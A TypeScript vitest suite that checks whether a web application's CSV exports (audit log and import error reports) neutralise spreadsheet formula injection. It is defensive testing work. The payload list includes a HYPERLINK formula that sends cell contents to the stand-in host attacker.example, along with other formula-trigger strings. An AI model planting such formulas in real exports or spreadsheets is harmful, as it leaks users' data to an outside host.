import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { stringify } from 'csv-stringify/sync';
import { BACKFILL_REQUIRED_COLUMNS } from '../../../shared/src/api/backfill';
import { appendAudit } from '../../../server/src/audit/audit-repository';
import { ErrorReport } from '../../../server/src/backfill/error-report';
import { csrfToken, startTestServer, type TestServer } from '../helpers/test-server';
import { testPan } from '../helpers/transactions';
import { label, sessionsPerRole } from './helpers';

/**
 * CSV injection: every cell of every CSV the product exports is read by a
 * spreadsheet as text, never as a formula. OWASP "CSV Injection": cells must
 * not begin with = + - @, tab (0x09) or carriage return (0x0D); a leading
 * apostrophe neutralises one. Spreadsheets also look past leading spaces and
 * quotes (common practice), so those count too.
 */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const PAYLOADS = [
  ...TRIGGERS.map((t) => `${t}HYPERLINK("https://attacker.example/?leak="&A1,"open")`),
  '=1+1',
  '+1+1',
  '-2-3',
  '@SUM(A1:A9)',
  ' =1+1',
  '   @SUM(A1)',
  '"=1+1',
  "'=1+1",
  '\' "-2-3',
  ' \t=1+1',
];

/** A cell a spreadsheet shows as text: no trigger first, and none behind leading spaces or quotes unless an apostrophe leads. */
function neutralised(cell: string): boolean {
  if (/^[=+\-@\t\r]/.test(cell)) return false;
  return !/^[\s"']*[=+\-@\t\r]/.test(cell) || cell.startsWith("'");
}

function unsafeCells(csv: string, where: string): string[] {
  const rows = parse(csv, { bom: true, relax_column_count: false }) as string[][];
  const bad: string[] = [];
  rows.forEach((r, i) => r.forEach((c, j) => neutralised(c) || bad.push(`${where} row ${i + 1} column ${j + 1}: ${JSON.stringify(c)}`)));
  return bad;
}

let ts: TestServer;
let uploadDir: string;
let session: ReturnType<typeof sessionsPerRole>;
const startedAt = new Date(Date.now() - 1000).toISOString();

beforeAll(async () => {
  uploadDir = await mkdtemp(path.join(tmpdir(), 'edgecase-csv-'));
  ts = await startTestServer({ UPLOAD_DIR: uploadDir });
  session = sessionsPerRole(ts);
});
afterAll(async () => {
  await ts?.close();
});

async function uploadCsv(url: string, rows: string[][]) {
  const ds = await session('data_scientist');
  const res = await ds.agent.post(url).set('X-CSRF-Token', ds.csrf).attach('file', Buffer.from(stringify(rows)), { filename: 'rows.csv', contentType: 'text/csv' });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body.import as { id: number; errorReportUrl: string | null; counts: { rejected: number } };
}

async function download(url: string, role: 'supervisor' | 'data_scientist') {
  const who = await session(role);
  const res = await who.agent.get(url).buffer(true).parse((r, cb) => {
    let text = '';
    r.setEncoding('utf8');
    r.on('data', (c: string) => (text += c));
    r.on('end', () => cb(null, text));
  });
  expect(res.status, url).toBe(200);
  expect(res.headers['content-type'], url).toMatch(/^text\/csv/);
  expect(res.headers['content-disposition'], url).toMatch(/^attachment/);
  // Should a browser render it anyway: no sniffing past text/csv, and a sandbox without scripts (OWASP ASVS 4.0 V14.4.2, from memory).
  expect(res.headers['x-content-type-options'], url).toBe('nosniff');
  expect(res.headers['content-security-policy'], url).toBe("default-src 'none'; sandbox");
  expect(res.headers['cache-control'], url).toBe('no-store');
  return res.body as string;
}

/** Puts hostile cells into each CSV route's data through the product's own paths, and returns the CSV it exports. */
const SEEDERS: Record<string, () => Promise<{ csv: string; expected: string[] }>> = {
  'GET /audit/export.csv': async () => {
    // Through a real request: the User-Agent of a sign-in attempt is stored as typed (HTTP strips leading
    // whitespace from a field value and refuses CR, RFC 9110 section 5.5, so those variants are written directly).
    const fromRequests = PAYLOADS.filter((p) => p === p.trimStart() && !p.includes('\r'));
    for (const [i, ua] of fromRequests.entries()) {
      const agent = request.agent(ts.server.http);
      const token = await csrfToken(agent);
      const email = `csv-probe-${i}@staff.demo.test`;
      await agent.post('/api/auth/login').set('X-CSRF-Token', token).set('User-Agent', ua).send({ email, password: 'not-the-password' }).expect(401);
    }
    for (const p of PAYLOADS) {
      await appendAudit(ts.server.db, { actorType: 'anonymous', actorLabel: p, action: 'security.csv_probe', targetType: 'probe', targetId: p, outcome: 'failure', userAgent: p, details: null });
    }
    const csv = await download(`/api/audit/export.csv?from=${encodeURIComponent(startedAt)}`, 'supervisor');
    return { csv, expected: PAYLOADS };
  },
  'GET /backfill/:id/errors.csv': async () => {
    // Ids may only hold A-Z a-z 0-9 . _ : - (the ingest contract), so a leading - is what reaches the report; the rest are refused and left out.
    const header = [...BACKFILL_REQUIRED_COLUMNS];
    const row = (id: string) => header.map((c) => (c === 'id' ? id : c === 'amount' ? 'not-an-amount' : c === 'card.number' ? testPan(880_001) : 'x'));
    const ids = ['-2-3', '-A1', ...PAYLOADS];
    const run = await uploadCsv('/api/backfill/transactions', [header, ...ids.map(row)]);
    expect(run.counts.rejected).toBe(ids.length);
    return { csv: await download(run.errorReportUrl!, 'data_scientist'), expected: ['-2-3', '-A1'] };
  },
  'GET /labels/imports/:id/errors.csv': async () => {
    const ids = ['-2-3', '-A1', ...PAYLOADS];
    const run = await uploadCsv('/api/labels/imports', [['transactionId', 'reportedAt', 'fraudType'], ...ids.map((id) => [id, '2026-01-05', 'card_not_present'])]);
    expect(run.counts.rejected).toBe(ids.length);
    return { csv: await download(run.errorReportUrl!, 'data_scientist'), expected: ['-2-3', '-A1'] };
  },
};

describe('CSV exports (OWASP CSV Injection; OWASP ASVS 5.0 V1.2.10)', () => {
  it('knows every route that answers CSV: the route table has no other', () => {
    const csvRoutes = ts.server.routes.filter((r) => r.path.endsWith('.csv')).map(label).sort();
    expect(csvRoutes).toEqual(Object.keys(SEEDERS).sort());
  });

  it.each(Object.keys(SEEDERS))('%s neutralises every cell and keeps what was written after the apostrophe', async (route) => {
    const { csv, expected } = await SEEDERS[route]();
    expect(unsafeCells(csv, route)).toEqual([]);
    const cells = new Set((parse(csv, { bom: true }) as string[][]).flat());
    for (const p of expected) expect(cells.has(`'${p}`), `${route}: ${JSON.stringify(p)}`).toBe(true);
  });

  it('the error-report writer neutralises cells the routes cannot reach (a tab, a CR, behind spaces and quotes)', async () => {
    const dir = await mkdtemp(path.join(tmpdir(), 'edgecase-report-'));
    const report = new ErrorReport(dir, 1);
    await report.add(PAYLOADS.map((p, i) => ({ row: i + 2, id: p, field: p, message: p })));
    await report.close();
    const csv = await readFile(path.join(dir, 'backfill', report.fileName!), 'utf8');
    expect(unsafeCells(csv, 'error report')).toEqual([]);
    const cells = new Set((parse(csv, { bom: true }) as string[][]).flat());
    for (const p of PAYLOADS) expect(cells.has(`'${p}`), JSON.stringify(p)).toBe(true);
  });
});
